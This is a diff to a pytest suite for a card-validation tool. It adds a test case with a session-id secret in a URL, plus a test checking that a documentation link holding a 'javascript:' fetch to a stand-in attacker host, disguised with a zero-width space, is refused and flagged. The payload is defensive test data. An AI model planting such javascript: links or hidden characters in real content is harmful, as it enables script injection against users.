@@ -254,6 +254,7 @@ def test_a_password_written_into_a_cards_text_is_said_and_never_repeated(repo: P
 @pytest.mark.parametrize("url", ["https://agents.possibility.space/catalog-search/rest?api_key=s3cret&region=eu",
                                  "https://agents.possibility.space/catalog-search/rest#access_token=s3cret",
                                  "https://agents.possibility.space/catalog-search/rest?X-Amz-Signature=s3cret",
+                                 "https://agents.possibility.space/catalog-search/rest;jsessionid=s3cret",
                                  # an Azure Functions key (the weak names need 16 characters, digits and letters)
                                  "https://agents.possibility.space/catalog-search/rest?code=s3cretAbCdEfGh12345=="])
 def test_a_key_or_token_in_a_url_parameter_is_refused_without_repeating_it(repo: Path, knoc, url: str) -> None:  # type: ignore[no-untyped-def]
@@ -293,3 +294,13 @@ def test_percent_encoded_text_after_a_weak_name_is_no_credential(repo: Path, kno
                                                    "  description: Condenses")
     code, out, _ = knoc("validate", "--format", "json", root=repo)
     assert code == 0 and not [d for d in json_diags(out) if "CREDENTIALS" in d["code"]], json_diags(out)
+
+
+def test_a_hidden_character_in_a_link_is_said_beside_the_links_own_error(repo: Path, knoc) -> None:  # type: ignore[no-untyped-def]
+    """A `javascript:` documentation url stays refused (`KNO-CARD-LINK`)
+    with a zero-width space in it; the hidden character is said too."""
+    edit(repo, BLUEPRINT, "  description: Condenses",
+         '  documentation_url: "javascript:fetch(\'//evil.example/\')\\u200b"\n  description: Condenses')
+    code, out, _ = knoc("build", "--format", "json", root=repo)
+    codes = {d["code"] for d in json_diags(out)}
+    assert code == 1 and {"KNO-CARD-LINK", "KNO-CARD-HIDDEN-TEXT"} <= codes, codes
